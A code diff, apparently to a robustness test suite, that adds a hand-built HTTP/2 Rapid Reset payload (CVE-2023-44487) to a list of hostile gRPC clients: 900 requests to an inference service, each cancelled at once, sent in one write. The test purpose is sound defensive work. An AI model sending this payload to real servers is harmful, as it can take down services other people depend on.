@@ -36,13 +36,14 @@ interface Sending {
   /** Whether to leave after the target's milliseconds, whatever came. */
   readonly isLeaving?: boolean
   readonly reads?: boolean
+  readonly byGrpc?: boolean
 }
 
 /** Sends bytes, and returns the first status that comes. */
 const sends =
-  (bytes: Buffer | string, { isLeaving = false, reads = true }: Sending = {}): Hostile =>
-  async ({ url, milliseconds }) => {
-    const { hostname, port } = new URL(url)
+  (bytes: Buffer | string, { isLeaving = false, reads = true, byGrpc = false }: Sending = {}): Hostile =>
+  async ({ url, grpc, milliseconds }) => {
+    const { hostname, port } = new URL(byGrpc ? `http://${grpc}` : url)
     const socket = connect(Number(port), hostname)
     let received = ''
     socket.on('error', () => {})
@@ -56,6 +57,37 @@ const sends =
     socket.destroy()
     return /^HTTP\/1\.1 (\d+)/.exec(received)?.[1] ?? ''
   }
+
+/** A frame of HTTP/2 (RFC 9113, section 4.1). */
+function http2Frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const frame = Buffer.alloc(9 + payload.length)
+  frame.writeUIntBE(payload.length, 0, 3)
+  frame.set([type, flags], 3)
+  frame.writeUInt32BE(stream, 5)
+  frame.set(payload, 9)
+  return frame
+}
+
+/** Calls of which each is cancelled at once (CVE-2023-44487), in one write: all begin, however few may go on at a time. */
+function cancelledCalls(count: number): Buffer {
+  const text = (value: string) => Buffer.from([value.length, ...Buffer.from(value)])
+  // POST, http, and an authority, a path and a content type as literals (RFC 7541, appendix A)
+  const headers = Buffer.concat([
+    Buffer.from([0x83, 0x86, 0x01]),
+    text('localhost'),
+    Buffer.from([0x04]),
+    text('/inference.GRPCInferenceService/ModelInfer'),
+    Buffer.from([0x0f, 0x10]),
+    text('application/grpc'),
+  ])
+  const [cancel, endHeaders] = [Buffer.from([0, 0, 0, 8]), 4]
+  const call = (id: number) => [http2Frame(1, endHeaders, id, headers), http2Frame(3, 0, id, cancel)]
+  return Buffer.concat([
+    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
+    http2Frame(4, 0, 0, Buffer.alloc(0)),
+    ...Array.from({ length: count }, (_, k) => call(2 * k + 1)).flat(),
+  ])
+}
 
 /** A message's frame of gRPC, whose length may say more than there is. */
 function framed(message: Uint8Array, length = message.length): Buffer {
@@ -215,6 +247,10 @@ export const hostileClients: Readonly<Record<string, { readonly run: Hostile; re
   'messages cut short by gRPC': { run: calls(8, (stream) => stream.write(cutShort), true), status: '' },
   'a thousand calls by gRPC': {
     run: calls(1000, (stream) => stream.write(framed(Buffer.alloc(100), 1000)), true),
+    status: '',
+  },
+  'calls by gRPC that are cancelled at once': {
+    run: sends(cancelledCalls(900), { byGrpc: true }),
     status: '',
   },
 }
